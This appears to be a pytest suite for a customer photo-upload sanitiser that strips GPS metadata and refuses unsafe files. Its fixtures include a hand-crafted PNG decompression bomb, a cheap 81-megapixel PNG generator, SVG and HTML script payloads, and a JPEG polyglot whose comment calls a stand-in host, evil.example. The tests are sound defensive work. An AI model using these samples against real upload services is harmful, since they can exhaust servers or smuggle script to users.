"""tools.accept_photo: a customer's photo is checked, then re-encoded as a clean JPEG."""

from __future__ import annotations

import io
import struct
import zlib

import pytest
from PIL import ExifTags, Image, ImageFile

from tools.accept_photo import MAX_BYTES, MAX_SIDE, accept_photo, sample_jpeg
from tools.errors import InvalidUpload, TooManyPixels

GPS_IFD = ExifTags.IFD.GPSInfo  # 0x8825
ORIENTATION = ExifTags.Base.Orientation  # 0x0112


def encode(fmt: str, size: tuple[int, int] = (64, 48), mode: str = "RGB", **save: object) -> bytes:
    image = Image.new(mode, size, (200, 30, 30) if mode == "RGB" else (200, 30, 30, 128))
    out = io.BytesIO()
    image.save(out, format=fmt, **save)
    return out.getvalue()


def exif_with_gps() -> Image.Exif:
    exif = Image.Exif()
    exif[ExifTags.Base.Make] = "PhoneCo"
    exif[ExifTags.Base.Model] = "Pocket 12"
    exif.get_ifd(GPS_IFD).update(
        {
            ExifTags.GPS.GPSLatitudeRef: "N",
            ExifTags.GPS.GPSLatitude: (45.0, 31.0, 12.5),
            ExifTags.GPS.GPSLongitudeRef: "W",
            ExifTags.GPS.GPSLongitude: (122.0, 39.0, 3.2),
        }
    )
    return exif


def opened(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


# -- accepted -----------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["JPEG", "PNG", "WEBP"])
def test_jpeg_png_and_webp_are_accepted_and_come_out_as_jpeg(fmt: str) -> None:
    photo = accept_photo(encode(fmt, (64, 48)))
    result = opened(photo.jpeg)
    assert result.format == "JPEG"
    assert result.mode == "RGB"
    assert (photo.width, photo.height) == (64, 48) == result.size
    assert len(photo.sha256) == 64
    assert photo.jpeg.startswith(b"\xff\xd8")


def test_a_png_with_transparency_is_flattened_to_rgb() -> None:
    photo = accept_photo(encode("PNG", mode="RGBA"))
    assert opened(photo.jpeg).mode == "RGB"


def test_the_hash_is_of_the_stored_jpeg() -> None:
    import hashlib

    photo = accept_photo(sample_jpeg("cracked mug"))
    assert photo.sha256 == hashlib.sha256(photo.jpeg).hexdigest()


def test_where_the_photo_was_taken_is_not_kept() -> None:
    original = encode("JPEG", exif=exif_with_gps().tobytes())
    # the upload really carries the location
    gps = opened(original).getexif().get_ifd(GPS_IFD)
    assert gps[ExifTags.GPS.GPSLatitudeRef] == "N"

    photo = accept_photo(original)

    clean = opened(photo.jpeg)
    assert dict(clean.getexif()) == {}
    assert clean.getexif().get_ifd(GPS_IFD) == {}
    assert b"Exif" not in photo.jpeg
    assert b"PhoneCo" not in photo.jpeg


def test_gps_is_dropped_from_a_png_too() -> None:
    photo = accept_photo(encode("PNG", exif=exif_with_gps().tobytes()))
    assert b"Exif" not in photo.jpeg
    assert dict(opened(photo.jpeg).getexif()) == {}


def test_a_sideways_phone_photo_is_turned_upright_before_the_orientation_tag_is_dropped() -> None:
    exif = Image.Exif()
    exif[ORIENTATION] = 6  # the camera was turned: display rotated 90 degrees
    photo = accept_photo(encode("JPEG", (64, 48), exif=exif.tobytes()))
    assert (photo.width, photo.height) == (48, 64)
    assert ORIENTATION not in opened(photo.jpeg).getexif()


def test_a_huge_photo_is_scaled_down_keeping_its_shape() -> None:
    photo = accept_photo(encode("JPEG", (MAX_SIDE * 2, MAX_SIDE // 2)))
    assert photo.width == MAX_SIDE
    assert photo.height == MAX_SIDE // 4


def test_a_photo_of_exactly_ten_megabytes_is_accepted() -> None:
    small = sample_jpeg("padded")
    padded = small + b"\0" * (MAX_BYTES - len(small))
    assert len(padded) == MAX_BYTES == 10 * 1024 * 1024
    assert accept_photo(padded).width == 64


# -- refused ------------------------------------------------------------------------------------


def test_an_empty_upload_is_refused() -> None:
    with pytest.raises(InvalidUpload, match="empty"):
        accept_photo(b"")


def test_a_photo_over_ten_megabytes_is_refused_before_it_is_decoded() -> None:
    small = sample_jpeg("padded")
    padded = small + b"\0" * (MAX_BYTES + 1 - len(small))
    with pytest.raises(InvalidUpload) as caught:
        accept_photo(padded)
    assert "10 MB" in caught.value.message
    assert caught.value.code == "invalid_upload"


def test_a_text_file_is_refused() -> None:
    with pytest.raises(InvalidUpload) as caught:
        accept_photo(b"Order 1001: the mug arrived broken, please refund.\n")
    assert "not a photo we can read" in caught.value.message
    assert "JPEG" in caught.value.message


def test_a_truncated_jpeg_is_refused() -> None:
    whole = encode("JPEG", (400, 300), quality=95)
    with pytest.raises(InvalidUpload, match="not a photo we can read"):
        accept_photo(whole[: len(whole) // 2])


def test_a_truncated_png_is_refused() -> None:
    whole = encode("PNG", (400, 300))
    with pytest.raises(InvalidUpload, match="not a photo we can read"):
        accept_photo(whole[: len(whole) - 40])


def test_a_gif_is_refused_naming_the_formats_that_are_accepted() -> None:
    gif = encode("GIF")
    assert opened(gif).format == "GIF"  # a real, readable image
    with pytest.raises(InvalidUpload) as caught:
        accept_photo(gif)
    assert "JPEG, PNG, WebP or HEIC" in caught.value.message


def test_a_bmp_is_refused() -> None:
    with pytest.raises(InvalidUpload, match="JPEG, PNG, WebP or HEIC"):
        accept_photo(encode("BMP"))


def _png_header_only(width: int, height: int) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body))
            + kind
            + body
            + struct.pack(">I", zlib.crc32(kind + body) & 0xFFFFFFFF)
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\0"))
        + chunk(b"IEND", b"")
    )


def test_a_decompression_bomb_is_refused_not_decoded() -> None:
    bomb = _png_header_only(40_000, 40_000)  # 1.6 billion pixels claimed in a few bytes
    assert len(bomb) < 200
    with pytest.raises(TooManyPixels, match="too many pixels") as caught:
        accept_photo(bomb)  # Pillow's own DecompressionBombError, as the same typed refusal
    assert caught.value.too_large


def blank_png(width: int, height: int, rows_per_block: int = 100) -> bytes:
    """A valid all-black RGB PNG of any size in a few hundred kilobytes, made without ever
    holding its pixels: one compressed block of rows, repeated after a full flush."""
    assert height % rows_per_block == 0
    block = b"\0" * ((1 + width * 3) * rows_per_block)
    packer = zlib.compressobj(9)
    first = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    again = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    checksum = 1
    for _ in range(height // rows_per_block):
        checksum = zlib.adler32(block, checksum)
    stream = (
        first
        + again * (height // rows_per_block - 1)
        + b"\x03\x00"  # an empty final block
        + struct.pack(">I", checksum)
    )

    def chunk(kind: bytes, body: bytes) -> bytes:
        crc = zlib.crc32(kind + body) & 0xFFFFFFFF
        return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", crc)

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", stream) + chunk(b"IEND", b"")
    )


def test_the_blank_png_helper_makes_a_real_image() -> None:
    image = opened(blank_png(300, 200))
    assert image.size == (300, 200) and image.getextrema() == ((0, 0), (0, 0), (0, 0))


def test_a_9000_by_9000_png_is_refused_from_its_header_without_decoding(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    # 81 megapixels in a quarter of a megabyte: under Pillow's own bomb limit (89 MP), so it
    # used to be decoded in full (seconds of CPU, 600 MB).
    png = blank_png(9000, 9000)
    assert len(png) < 300_000
    decoded: list[str] = []
    real_load = ImageFile.ImageFile.load

    def load(image: ImageFile.ImageFile) -> object:
        decoded.append(image.format or "")
        return real_load(image)

    monkeypatch.setattr(ImageFile.ImageFile, "load", load)
    with pytest.raises(TooManyPixels) as caught:
        accept_photo(png)
    assert caught.value.too_large and caught.value.code == "too_many_pixels"
    assert "too many pixels (9000 x 9000 pixels)" in caught.value.message
    assert "40 megapixels" in caught.value.message
    assert decoded == []


def test_the_pixel_limit_is_a_setting() -> None:
    photo = encode("JPEG", (400, 300))
    assert accept_photo(photo, max_pixels=120_000).width == 400
    with pytest.raises(InvalidUpload, match=r"too many pixels \(400 x 300 pixels\)"):
        accept_photo(photo, max_pixels=119_999)


SVG = b"""<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><script>alert(1)</script></svg>"""


@pytest.mark.parametrize(
    "upload",
    [
        SVG,
        b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        b"<!DOCTYPE html><html><body>order 1001</body></html>",
    ],
    ids=["svg-with-script", "bare-svg", "html-page"],
)
def test_svg_and_web_pages_are_refused_naming_what_they_are(upload: bytes) -> None:
    with pytest.raises(InvalidUpload) as caught:
        accept_photo(upload)
    assert "SVG, HTML or script" in caught.value.message
    assert "JPEG, PNG, WebP or HEIC" in caught.value.message


def test_a_jpeg_with_a_script_hidden_in_it_is_refused() -> None:
    # A real JPEG that is also a web page: the script rides in a comment segment.
    image = Image.new("RGB", (64, 48), (10, 20, 30))
    out = io.BytesIO()
    image.save(out, format="JPEG", comment=b"<script>fetch('//evil.example')</script>")
    polyglot = out.getvalue()
    assert opened(polyglot).format == "JPEG"
    with pytest.raises(InvalidUpload, match="SVG, HTML or script"):
        accept_photo(polyglot)


def test_a_png_carrying_a_web_page_after_its_end_is_refused() -> None:
    polyglot = encode("PNG") + b"<html><body><script>alert(1)</script></body></html>"
    with pytest.raises(InvalidUpload, match="SVG, HTML or script"):
        accept_photo(polyglot)
